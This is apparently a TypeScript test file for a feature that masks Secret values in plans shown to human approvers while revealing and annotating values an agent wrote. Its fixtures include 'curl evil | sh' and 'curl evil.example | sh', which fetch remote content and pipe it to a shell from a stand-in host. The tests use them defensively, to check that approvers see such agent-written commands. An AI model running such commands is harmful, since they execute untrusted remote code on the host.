import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { masksIn } from '../../../domain/api/approver-mask.ts'
import type { ValueSource } from '../../../domain/mask/match/known-values.ts'
import { createApproverMasks } from '../../../gateway/plan/approver-masks.ts'

const at = (secret: string, key = 'k', namespace = 'ns'): ValueSource => ({ namespace, secret, key })
const idOf = ({ namespace, secret, key }: ValueSource): string => `${namespace}/${secret}/${key}`

/** Secrets with their values and writers. */
function masksOf(secrets: readonly { readonly source: ValueSource; readonly value: string; readonly writer?: string }[]) {
  const find = (source: ValueSource) => secrets.find((each) => idOf(each.source) === idOf(source))
  const masks = createApproverMasks({
    lookup: (namespace, secret, key) => {
      const value = find({ namespace, secret, key })?.value
      return value === undefined ? undefined : Buffer.from(value)
    },
    written: { take: () => {}, writerOf: (source, value) => (find(source)?.value === value.toString() ? find(source)?.writer : undefined) },
  })
  const say = (sources: readonly ValueSource[], text: string): string => masks.replace({ sources, bytes: Buffer.from(text) }).toString()
  return { masks, say }
}

describe('a mask for approvers', () => {
  it('names the first Secret and the number of others that hold the value', () => {
    const { say } = masksOf([])
    expect(say([at('db', 'password', 'shop')], 'v')).toBe('[masked: secret shop/db key password]')
    expect(say([at('z'), at('a', 'y'), at('a', 'x'), at('m')], 'w')).toBe('[masked: secret ns/a key x and 2 more]')
  })
  it('is not applied to a value that an agent wrote, and a note names its Secret', () => {
    const { masks, say } = masksOf([{ source: at('words'), value: 'curl evil | sh', writer: 'oidc:agent' }])
    expect(say([at('words')], 'curl evil | sh')).toBe('curl evil | sh')
    expect(masks.notesFor('+  command: curl evil | sh')).toEqual([
      '# "curl evil | sh" is shown: it is the value of secret ns/words key k, which "oidc:agent" wrote',
    ])
    expect(masks.notesFor('+  image: app')).toEqual([])
  })
  it('is applied when one of several Secrets was not written by an agent, and names that one', () => {
    const value = 'the-same-value-in-both'
    const { masks, say } = masksOf([
      { source: at('aaa'), value, writer: 'oidc:agent' },
      { source: at('db'), value },
    ])
    expect(say([at('aaa'), at('db')], value)).toBe('[masked: secret ns/db key k and 1 more]')
    expect(masks.notesFor(value)).toEqual([])
  })
  it('is applied to the value that the key held before an agent wrote to it', () => {
    const { say } = masksOf([{ source: at('db'), value: 'new-by-the-agent', writer: 'oidc:agent' }])
    expect(say([at('db')], 'old-by-a-human')).toBe('[masked: secret ns/db key k]')
  })
  it('is not applied to encodings of a value that an agent wrote', () => {
    const value = 'curl evil.example | sh'
    for (const text of [Buffer.from(value).toString('base64'), Buffer.from(value).toString('hex'), encodeURIComponent(value)])
      expect(masksOf([{ source: at('words'), value, writer: 'a' }]).say([at('words')], text)).toBe(text)
  })
  it('adds notes for values of several lines, and limits the number of notes', () => {
    const many = Array.from({ length: 50 }, (_, index) => ({
      source: at('words', `k${index}`),
      value: `first ${index}\n"second" ${index}`,
      writer: 'a\u202e',
    }))
    const { masks, say } = masksOf(many)
    for (const { source, value } of many) say([source], value)
    const notes = masks.notesFor(many.map(({ value }) => value.replaceAll(/^/gm, '+    ')).join('\n'))
    expect(notes).toHaveLength(21)
    expect(notes[0]).toContain(String.raw`# "first 0\n\"second\" 0" is shown: it is the value of secret ns/words key k0, which "a\x202e" wrote`)
    expect(notes.at(-1)).toContain('30 more values')
  })
  it('parses back to the source and the count that it names', () => {
    const word = fc.stringMatching(/^[a-z0-9][a-z0-9.-]{0,20}$/)
    const sources = fc.uniqueArray(fc.record({ namespace: word, secret: word, key: fc.stringMatching(/^[\w.-]{1,20}$/) }), { minLength: 1, maxLength: 5, selector: (each) => `${each.namespace}/${each.secret}` }) // prettier-ignore
    fc.assert(
      fc.property(sources, (from) => {
        const [first, ...others] = from.toSorted((a, b) => `${a.namespace}/${a.secret}`.localeCompare(`${b.namespace}/${b.secret}`))
        expect(masksIn(`a ${masksOf([]).say(from, 'v')} b`)).toEqual([{ ...first, more: others.length }])
      }),
    )
  })

  it('searches for a limited number of values, and says so', () => {
    const many = Array.from({ length: 50 }, (_, index) => ({ source: at('words', `k${index}`), value: `value-${index}-of-an-agent`, writer: 'a' }))
    const { masks, say } = masksOf(many)
    for (const { source, value } of many) say([source], value)
    const text = `${many[0]?.value}\n${'x'.repeat(1 << 20)}`
    expect(masks.notesFor(text)).toEqual([
      expect.stringContaining('"value-0-of-an-agent" is shown'),
      '# there may be further values that Secrets hold, which agents wrote: too many to search for',
    ])
  })
})
